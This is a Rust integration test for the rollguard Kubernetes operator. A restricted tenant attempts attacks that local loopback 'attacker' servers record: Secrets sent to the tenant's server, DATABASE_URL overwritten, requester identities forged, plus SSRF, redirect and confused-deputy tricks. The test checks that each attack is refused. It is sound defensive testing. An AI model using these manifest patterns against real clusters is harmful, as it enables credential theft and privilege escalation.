//! The attack suite of SPEC §5: a tenant, alice, holding exactly the chart's `-author` and
//! `-requester` roles in her namespace (she may edit RolloutGuards and ask for rollbacks,
//! but may not read Secrets or patch ConfigMaps), tries to get through rollguard what RBAC
//! does not give her. The chart's RBAC and admission policies are installed, the operator
//! runs with the chart's ServiceAccount token, and loopback "attackers" record everything
//! that reaches them. Every attack must be refused (with a message that says why) or come
//! to nothing; the test prints a tally and fails on any attack that got through.
//!
//! Needs helm and the local control plane (`make test` provides both); under `CI=true`
//! their absence is a failure.

mod common;

use common::tenancy::{Attacker, Tactic, Tenancy, forbidden, grant};
use common::wait_until;
use k8s_openapi::api::core::v1::{ConfigMap, Secret};
use kube::api::{Api, Patch, PatchParams, PostParams};
use rollguard::api::guard::GuardPhase;
use rollguard::api::request::RequestPhase;
use rollguard::api::{RollbackRequest, RolloutGuard};
use std::time::Duration;

const DB_PASSWORD: &str = "marker-db-password-5f1c";
const SA_TOKEN: &str = "marker-sa-token-9a2e";
const PROM_TOKEN: &str = "marker-prom-token-77b0";
const TEAM_B_KEY: &str = "marker-team-b-signing-key-0123456789abcdef";

/// What one attack came to: Ok(why it failed), Err(what got through).
type Verdict = Result<String, String>;

fn guard(name: &str, spec: serde_json::Value) -> RolloutGuard {
    serde_json::from_value(serde_json::json!({
        "apiVersion": "rollguard.dev/v1alpha1", "kind": "RolloutGuard",
        "metadata": {"name": name}, "spec": spec,
    }))
    .unwrap()
}

fn request(name: &str, spec: serde_json::Value) -> RollbackRequest {
    serde_json::from_value(serde_json::json!({
        "apiVersion": "rollguard.dev/v1alpha1", "kind": "RollbackRequest",
        "metadata": {"name": name}, "spec": spec,
    }))
    .unwrap()
}

/// A create the API server must refuse with a 403 whose message contains every one of `needles`.
fn refused<T: std::fmt::Debug>(result: Result<T, kube::Error>, needles: &[&str]) -> Verdict {
    match result {
        Ok(created) => Err(format!("admitted: {created:?}")),
        Err(e) => match forbidden(&e) {
            Some(message) if needles.iter().all(|n| message.contains(n)) => Ok(message),
            Some(message) => Err(format!(
                "refused, but the message does not name {needles:?}: {message}"
            )),
            None => Err(format!("refused for another reason: {e}")),
        },
    }
}

async fn guard_status(
    api: &Api<RolloutGuard>,
    name: &str,
    what: &str,
    done: impl Fn(&rollguard::api::RolloutGuardStatus) -> bool,
) -> rollguard::api::RolloutGuardStatus {
    wait_until(Duration::from_secs(30), what, || {
        let api = api.clone();
        let name = name.to_string();
        let done = &done;
        async move {
            let status = api.get(&name).await.ok()?.status?;
            done(&status).then_some(status)
        }
    })
    .await
}

fn condition_message(status: &rollguard::api::RolloutGuardStatus, type_: &str) -> String {
    rollguard::conditions::get(&status.conditions, type_)
        .map(|c| c.message.clone())
        .unwrap_or_default()
}

#[tokio::test]
async fn a_tenant_gets_through_rollguard_nothing_rbac_would_not_give_them() {
    let Some(helm) = common::helm() else { return };
    let Some(cluster) = common::cluster("a_tenant_gets_through_rollguard_nothing").await else {
        return;
    };
    // Outbound calls: an "internal" service the cluster admin denies, and credentials over
    // plain http allowed to the real Prometheus's host only (attackers listen on 127.0.0.2).
    let internal = Attacker::start_on("127.0.0.3").await;
    let tenancy = Tenancy::start(
        &cluster,
        &helm,
        &[
            "--egress-deny-cidr",
            "127.0.0.3/32",
            "--egress-allow-plain-http-credentials",
            "127.0.0.1",
        ],
    )
    .await;
    let ns = tenancy.ns.clone();
    let attacker = Attacker::start_on("127.0.0.2").await;
    cluster.apply(&format!(
        r#"
apiVersion: v1
kind: ConfigMap
metadata: {{name: ff, namespace: {ns}, labels: {{rollguard.dev/flags: "true"}}}}
data: {{a: "true"}}
---
apiVersion: v1
kind: ConfigMap
metadata: {{name: alice-flags, namespace: {ns}, labels: {{rollguard.dev/flags: "true"}}}}
data: {{a: "true"}}
---
apiVersion: v1
kind: ConfigMap
metadata: {{name: app-config, namespace: {ns}}}
data: {{DATABASE_URL: "postgres://prod.internal/shop"}}
---
apiVersion: v1
kind: Secret
metadata: {{name: db-credentials, namespace: {ns}}}
stringData: {{username: shop, password: {DB_PASSWORD}}}
---
apiVersion: v1
kind: ServiceAccount
metadata: {{name: builder, namespace: {ns}}}
---
apiVersion: v1
kind: Secret
type: kubernetes.io/service-account-token
metadata:
  name: builder-token
  namespace: {ns}
  annotations: {{kubernetes.io/service-account.name: builder}}
  labels: {{rollguard.dev/credentials: "true"}}
stringData: {{token: {SA_TOKEN}}}
---
apiVersion: v1
kind: Secret
metadata: {{name: prom-auth, namespace: {ns}, labels: {{rollguard.dev/credentials: "true"}}}}
stringData: {{token: {PROM_TOKEN}}}
---
apiVersion: v1
kind: Secret
metadata: {{name: team-b-webhook, namespace: {ns}, labels: {{rollguard.dev/credentials: "true"}}}}
stringData: {{url: "{attacker}/team-b", signingKey: {TEAM_B_KEY}}}
"#,
        attacker = attacker.url,
    ));
    // The victim team's guard, applied by the admin (GitOps): its credential goes to the
    // real Prometheus only.
    cluster.apply(&format!(
        r#"
apiVersion: rollguard.dev/v1alpha1
kind: RolloutGuard
metadata: {{name: victim, namespace: {ns}}}
spec:
  interval: 1s
  flags: {{configMapRef: {{name: ff}}, guarded: [a]}}
  prometheus: {{address: "{prometheus}", authSecretRef: {{name: prom-auth}}}}
  triggers: [{{name: t, query: "vector(0)", above: 1}}]
"#,
        prometheus = cluster.prometheus_url,
    ));

    // Alice's team owns alice-flags: she may change it by hand, so her guards may name it.
    grant(
        &cluster,
        &ns,
        "alice",
        "flags-editor",
        r#"{apiGroups: [""], resources: [configmaps], resourceNames: [alice-flags], verbs: [get, patch]}"#,
    );
    let admin_guards: Api<RolloutGuard> = Api::namespaced(cluster.client.clone(), &ns);
    let alice_guards: Api<RolloutGuard> = Api::namespaced(tenancy.alice.clone(), &ns);
    let alice_requests: Api<RollbackRequest> = Api::namespaced(tenancy.alice.clone(), &ns);
    let admin_requests: Api<RollbackRequest> = Api::namespaced(cluster.client.clone(), &ns);
    let pp = PostParams::default();
    let flags = serde_json::json!({"configMapRef": {"name": "alice-flags"}, "guarded": ["a"]});
    let mut tally: Vec<(&str, Verdict)> = Vec::new();

    // RBAC bindings and policies reach the authorizer within moments: wait until the policy
    // refuses alice a guard over the victim's ConfigMap, then until she may create one over
    // her own.
    wait_until(Duration::from_secs(15), "the guard policy in force", || {
        let api = alice_guards.clone();
        let g = guard(
            "probe",
            serde_json::json!({"flags": {"configMapRef": {"name": "ff"}, "guarded": ["a"]}}),
        );
        async move {
            match api.create(&PostParams::default(), &g).await {
                Err(kube::Error::Api(e)) if e.message.contains("may not patch") => Some(()),
                Ok(_) => {
                    let _ = api.delete("probe", &Default::default()).await;
                    None
                }
                Err(_) => None,
            }
        }
    })
    .await;
    wait_until(
        Duration::from_secs(15),
        "alice's own guard admitted",
        || {
            let api = alice_guards.clone();
            let g = guard(
                "mine",
                serde_json::json!({"flags": flags, "interval": "1s"}),
            );
            async move { api.create(&PostParams::default(), &g).await.ok() }
        },
    )
    .await;

    // --- Secrets ------------------------------------------------------------------------
    tally.push((
        "a new guard sends a database credential to the tenant's server",
        refused(
            alice_guards
                .create(
                    &pp,
                    &guard(
                        "steal-db",
                        serde_json::json!({"flags": flags, "prometheus": {
                            "address": attacker.url, "authSecretRef": {"name": "db-credentials"}}}),
                    ),
                )
                .await,
            &["spec.prometheus.authSecretRef", "db-credentials"],
        ),
    ));
    tally.push((
        "a new guard sends a ServiceAccount token to the tenant's server",
        refused(
            alice_guards
                .create(
                    &pp,
                    &guard(
                        "steal-sa",
                        serde_json::json!({"flags": flags, "prometheus": {
                            "address": attacker.url, "authSecretRef": {"name": "builder-token"}}}),
                    ),
                )
                .await,
            &["spec.prometheus.authSecretRef", "builder-token"],
        ),
    ));
    tally.push((
        "another team's guard: only its Prometheus address changed to the tenant's server",
        refused(
            alice_guards
                .patch(
                    "victim",
                    &PatchParams::default(),
                    &Patch::Merge(
                        serde_json::json!({"spec": {"prometheus": {"address": attacker.url}}}),
                    ),
                )
                .await,
            &["prom-auth"],
        ),
    ));
    tally.push((
        "another team's webhook Secret signs the tenant's notices",
        refused(
            alice_guards
                .create(
                    &pp,
                    &guard(
                        "borrow-key",
                        serde_json::json!({"flags": flags, "notify": [
                            {"name": "x", "type": "webhook", "secretRef": {"name": "team-b-webhook"}}]}),
                    ),
                )
                .await,
            &["spec.notify", "team-b-webhook"],
        ),
    ));
    tally.push((
        "a snapshot copies a Secret the tenant may not read",
        refused(
            alice_guards
                .create(
                    &pp,
                    &guard(
                        "copy-secret",
                        serde_json::json!({"flags": flags, "rollback": {"snapshot": {"include": [
                            {"kind": "Secret", "name": "db-credentials"}]}}}),
                    ),
                )
                .await,
            &["spec.rollback.snapshot.include", "db-credentials"],
        ),
    ));
    // --- ConfigMaps -----------------------------------------------------------------------
    tally.push((
        "a guard over an application's ConfigMap overwrites DATABASE_URL",
        refused(
            alice_guards
                .create(
                    &pp,
                    &guard(
                        "overwrite",
                        serde_json::json!({"flags": {"configMapRef": {"name": "app-config"},
                            "guarded": ["DATABASE_URL"], "offValue": "postgres://attacker"}}),
                    ),
                )
                .await,
            &["spec.flags.configMapRef", "app-config", "patch"],
        ),
    ));
    // --- Requests beyond a plain rollback -----------------------------------------------
    let by_alice = |extra: serde_json::Value| {
        let mut spec = serde_json::json!({"guardRef": {"name": "victim"}, "requestedBy": "alice",
            "reason": "attack", "dryRun": true});
        spec.as_object_mut()
            .unwrap()
            .extend(extra.as_object().unwrap().clone());
        spec
    };
    tally.push((
        "forceDisableAll without the emergency verb",
        refused(
            alice_requests
                .create(
                    &pp,
                    &request(
                        "force",
                        by_alice(serde_json::json!({"forceDisableAll": true})),
                    ),
                )
                .await,
            &["forceDisableAll", "emergency"],
        ),
    ));
    tally.push((
        "a restore without the restore verb",
        refused(
            alice_requests
                .create(
                    &pp,
                    &request("undo", by_alice(serde_json::json!({"action": "restore"}))),
                )
                .await,
            &["restore"],
        ),
    ));
    tally.push((
        "an automatic rollback faked with requestedBy: system:rollguard",
        refused(
            alice_requests
                .create(
                    &pp,
                    &request(
                        "fake-auto",
                        by_alice(serde_json::json!({"requestedBy": "system:rollguard"})),
                    ),
                )
                .await,
            &["system:rollguard"],
        ),
    ));
    for (attack, name, by) in [
        ("a rollback recorded as someone else's", "as-bob", "bob"),
        (
            "a rollback recorded as a system user",
            "as-system",
            "system:admin",
        ),
    ] {
        tally.push((
            attack,
            refused(
                alice_requests
                    .create(
                        &pp,
                        &request(name, by_alice(serde_json::json!({"requestedBy": by}))),
                    )
                    .await,
                &["spec.requestedBy", by],
            ),
        ));
    }
    // The plain rollback alice is entitled to is admitted (the suite can tell refusals apart).
    let plain = alice_requests
        .create(&pp, &request("plain", by_alice(serde_json::json!({}))))
        .await;
    assert!(plain.is_ok(), "alice's own dry-run rollback: {plain:?}");

    // --- Confused deputy without the admission policy ----------------------------------
    // The same manifests applied by someone who holds every right (a GitOps tool syncing a
    // tenant's repository): the owners' labels still stand between them and the operator.
    for (name, spec) in [
        (
            "deputy-secret",
            serde_json::json!({"interval": "1s", "flags": flags, "prometheus": {
                "address": attacker.url, "authSecretRef": {"name": "db-credentials"}},
                "triggers": [{"name": "t", "query": "vector(0)", "above": 1}]}),
        ),
        (
            "deputy-token",
            serde_json::json!({"interval": "1s", "flags": flags, "prometheus": {
                "address": attacker.url, "authSecretRef": {"name": "builder-token"}},
                "triggers": [{"name": "t", "query": "vector(0)", "above": 1}]}),
        ),
        (
            "deputy-config",
            serde_json::json!({"interval": "1s", "flags": {"configMapRef": {"name": "app-config"},
                "guarded": ["DATABASE_URL"], "offValue": "postgres://attacker"}}),
        ),
    ] {
        admin_guards.create(&pp, &guard(name, spec)).await.unwrap();
    }
    let invalid =
        |status: &rollguard::api::RolloutGuardStatus| status.phase == Some(GuardPhase::Invalid);
    for (name, attack, needle) in [
        (
            "deputy-secret",
            "an unlabelled Secret read for a guard (applied by an admin)",
            "Secret \"db-credentials\" is not labelled rollguard.dev/credentials: \"true\"",
        ),
        (
            "deputy-token",
            "a ServiceAccount token read for a guard, even labelled",
            "Secret \"builder-token\" is a ServiceAccount token",
        ),
        (
            "deputy-config",
            "an unlabelled ConfigMap used as flags (applied by an admin)",
            "ConfigMap \"app-config\" is not labelled rollguard.dev/flags: \"true\"",
        ),
    ] {
        let status = guard_status(&admin_guards, name, &format!("{name} Invalid"), invalid).await;
        let message = condition_message(&status, "Ready");
        tally.push((
            attack,
            if message.contains(needle) {
                Ok(message)
            } else {
                Err(format!("Invalid, but not for the label: {message}"))
            },
        ));
    }
    // A rollback asked of the deputy guard over app-config fails and writes nothing.
    admin_requests
        .create(
            &pp,
            &request(
                "deputy-rollback",
                serde_json::json!({"guardRef": {"name": "deputy-config"}, "requestedBy": "admin",
                    "reason": "attack"}),
            ),
        )
        .await
        .unwrap();
    let done = common::finished(&admin_requests, "deputy-rollback").await;
    let config_maps: Api<ConfigMap> = Api::namespaced(cluster.client.clone(), &ns);
    let app_config = config_maps.get("app-config").await.unwrap().data.unwrap();
    let status = done.status.unwrap();
    tally.push((
        "a rollback over an unlabelled ConfigMap",
        if status.phase == Some(RequestPhase::Failed)
            && app_config["DATABASE_URL"] == "postgres://prod.internal/shop"
        {
            Ok(status.message.clone().unwrap_or_default())
        } else {
            Err(format!(
                "{status:?}; DATABASE_URL is now {:?}",
                app_config["DATABASE_URL"]
            ))
        },
    ));

    // --- Outbound calls ----------------------------------------------------------------
    // Alice's own guard reaching an internal address the cluster admin denied: its
    // Prometheus, a health check and a hook, through a rollback she may ask for.
    alice_guards
        .create(
            &pp,
            &guard(
                "ssrf",
                serde_json::json!({"interval": "1s", "flags": flags,
                    "prometheus": {"address": internal.url},
                    "triggers": [{"name": "t", "query": "vector(0)", "above": 1}],
                    "rollback": {"hooks": {"preRollback": [{"url": format!("{}/drain", internal.url)}]}},
                    "health": {"timeout": "2s", "http": [{"url": format!("{}/healthz", internal.url)}]}}),
            ),
        )
        .await
        .unwrap();
    alice_requests
        .create(
            &pp,
            &request(
                "ssrf-rollback",
                serde_json::json!({"guardRef": {"name": "ssrf"}, "requestedBy": "alice",
                    "reason": "attack"}),
            ),
        )
        .await
        .unwrap();
    let done = common::finished(&admin_requests, "ssrf-rollback").await;
    let ssrf = guard_status(&admin_guards, "ssrf", "ssrf guard unreachable", |s| {
        rollguard::conditions::get(&s.conditions, "PrometheusReachable")
            .is_some_and(|c| c.status == "False")
    })
    .await;
    let unreachable = condition_message(&ssrf, "PrometheusReachable");
    let record = serde_json::to_string(&done.status).unwrap();
    tally.push((
        "Prometheus, hook and health check at an address the admin denied",
        if internal.visits().is_empty()
            && unreachable.contains("127.0.0.3")
            && record.contains("127.0.0.3")
        {
            Ok(unreachable)
        } else {
            Err(format!(
                "{} request(s) reached the internal address; guard: {unreachable}; request: {record}",
                internal.visits().len()
            ))
        },
    ));
    // A hook and a health check on a server that redirects to another (allowed) one: the
    // POST body and Idempotency-Key would follow a redirect.
    let sink = Attacker::start_on("127.0.0.4").await;
    let redirector = Attacker::start_with(
        "127.0.0.2",
        Tactic::Redirect(format!("{}/stolen", sink.url)),
    )
    .await;
    cluster.apply(&format!(
        "apiVersion: v1\nkind: ConfigMap\nmetadata: {{name: alice-flags, namespace: {ns}, labels: {{rollguard.dev/flags: \"true\"}}}}\ndata: {{a: \"true\"}}\n"
    ));
    alice_guards
        .create(
            &pp,
            &guard(
                "redirect",
                serde_json::json!({"interval": "1s", "flags": flags,
                    "rollback": {"hooks": {"preRollback": [{"url": format!("{}/drain", redirector.url)}]}},
                    "health": {"timeout": "2s", "http": [{"url": format!("{}/healthz", redirector.url)}]}}),
            ),
        )
        .await
        .unwrap();
    alice_requests
        .create(
            &pp,
            &request(
                "redirect-rollback",
                serde_json::json!({"guardRef": {"name": "redirect"}, "requestedBy": "alice",
                    "reason": "attack"}),
            ),
        )
        .await
        .unwrap();
    let done = common::finished(&admin_requests, "redirect-rollback").await;
    let record = serde_json::to_string(&done.status).unwrap();
    let hook_called = redirector.visits().iter().any(|v| v.uri.path() == "/drain");
    tally.push((
        "a hook and a health check that redirect to another server",
        if sink.visits().is_empty()
            && hook_called
            && record.contains("answered 307: redirects are not followed")
            && record.contains("answered 307, expected")
        {
            Ok(
                "the hook failed and the check was unhealthy at the 307; nothing followed it"
                    .into(),
            )
        } else {
            Err(format!(
                "{} request(s) followed to the sink; hook called: {hook_called}; request: {record}",
                sink.visits().len()
            ))
        },
    ));
    // A Prometheus that answers 20 MiB: read up to the cap, then refused.
    let huge = Attacker::start_with("127.0.0.2", Tactic::Huge(20 << 20)).await;
    alice_guards
        .create(
            &pp,
            &guard(
                "huge",
                serde_json::json!({"interval": "1s", "flags": flags,
                    "prometheus": {"address": huge.url},
                    "triggers": [{"name": "t", "query": "vector(0)", "above": 1}]}),
            ),
        )
        .await
        .unwrap();
    let status = guard_status(&admin_guards, "huge", "huge guard judged", |s| {
        rollguard::conditions::get(&s.conditions, "PrometheusReachable")
            .is_some_and(|c| c.status == "False")
    })
    .await;
    let message = condition_message(&status, "PrometheusReachable");
    tally.push((
        "a Prometheus answer of 20 MiB",
        if message.contains("answer larger than 8388608 bytes") {
            Ok(message)
        } else {
            Err(message)
        },
    ));
    // A credential over plain http to a host the admin did not allow (the attacker's):
    // applied by the admin, so only the operator's rule stands in the way.
    admin_guards
        .create(
            &pp,
            &guard(
                "plain-http",
                serde_json::json!({"interval": "1s", "flags": flags,
                    "prometheus": {"address": attacker.url, "authSecretRef": {"name": "prom-auth"}},
                    "triggers": [{"name": "t", "query": "vector(0)", "above": 1}]}),
            ),
        )
        .await
        .unwrap();
    let status = guard_status(
        &admin_guards,
        "plain-http",
        "plain-http guard judged",
        |s| s.phase.is_some_and(|p| p != GuardPhase::Monitoring),
    )
    .await;
    let message = format!(
        "{} {}",
        condition_message(&status, "Ready"),
        condition_message(&status, "PrometheusReachable")
    );
    tally.push((
        "a credential sent over plain http to a host the admin did not allow",
        if !attacker.learnt(PROM_TOKEN) && message.contains("spec.prometheus.authSecretRef") {
            Ok(message)
        } else {
            Err(format!(
                "attacker learnt the token: {}; {message}",
                attacker.learnt(PROM_TOKEN)
            ))
        },
    ));

    // --- The operator's own reach ----------------------------------------------------------
    let operator_config_maps: Api<ConfigMap> =
        Api::namespaced(tenancy.operator_client.clone(), &ns);
    tally.push((
        "the operator's ServiceAccount patches an unlabelled ConfigMap",
        refused(
            operator_config_maps
                .patch(
                    "app-config",
                    &PatchParams::default(),
                    &Patch::Merge(serde_json::json!({"data": {"DATABASE_URL": "x"}})),
                )
                .await,
            &["app-config"],
        ),
    ));
    let operator_secrets: Api<Secret> = Api::namespaced(tenancy.operator_client.clone(), &ns);
    let misnamed: Secret = serde_json::from_value(serde_json::json!({
        "metadata": {"name": "not-a-snapshot", "labels": {
            "rollguard.dev/guard": "victim", "rollguard.dev/request": "r"}},
        "type": "rollguard.dev/snapshot", "stringData": {"x": "y"},
    }))
    .unwrap();
    tally.push((
        "the operator's ServiceAccount creates a snapshot Secret under another name",
        refused(
            operator_secrets.create(&pp, &misnamed).await,
            &["not-a-snapshot"],
        ),
    ));

    // The operator writes Leases in tenants' namespaces only as guards' rollback slots: an
    // application's leader-election Lease is not among them.
    let operator_leases: Api<k8s_openapi::api::coordination::v1::Lease> =
        Api::namespaced(tenancy.operator_client.clone(), &ns);
    let app_lease: k8s_openapi::api::coordination::v1::Lease =
        serde_json::from_value(serde_json::json!({
            "metadata": {"name": "app-leader"}, "spec": {"holderIdentity": "rollguard"},
        }))
        .unwrap();
    tally.push((
        "the operator's ServiceAccount writes a Lease that is not a rollback slot",
        refused(
            operator_leases.create(&pp, &app_lease).await,
            &["app-leader"],
        ),
    ));

    // Nothing any attacker received carries a credential of this namespace.
    for secret in [DB_PASSWORD, SA_TOKEN, PROM_TOKEN, TEAM_B_KEY] {
        tally.push((
            "no credential reached an attacker",
            if attacker.learnt(secret) || internal.learnt(secret) {
                Err(format!("{secret} reached an attacker"))
            } else {
                Ok(format!("{secret} never sent"))
            },
        ));
    }

    println!("attack | outcome");
    for (attack, verdict) in &tally {
        match verdict {
            Ok(why) => println!("refused | {attack}: {why}"),
            Err(what) => println!("GOT THROUGH | {attack}: {what}"),
        }
    }
    let through: Vec<_> = tally.iter().filter(|(_, v)| v.is_err()).collect();
    println!(
        "{} attacks, {} refused or harmless, {} got through",
        tally.len(),
        tally.len() - through.len(),
        through.len()
    );
    assert!(
        through.is_empty(),
        "attacks that got through: {through:#?}\noperator log:\n{}",
        tenancy.operator.log_text()
    );
}
